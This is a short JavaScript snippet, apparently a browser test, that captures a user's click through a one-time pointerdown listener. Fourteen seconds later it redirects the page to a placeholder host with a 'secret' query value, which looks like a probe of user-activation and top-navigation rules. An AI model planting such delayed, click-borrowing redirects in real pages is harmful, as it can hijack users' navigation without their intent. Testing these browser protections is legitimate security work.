// A click gives the page what a person's own act gives it; after that the page leaves for another host.
addEventListener('pointerdown', () => window.__late?.(), { once: true });
setTimeout(() => {
  location.href = 'https://topnav.x.example/?secret=1';
}, 14_000);
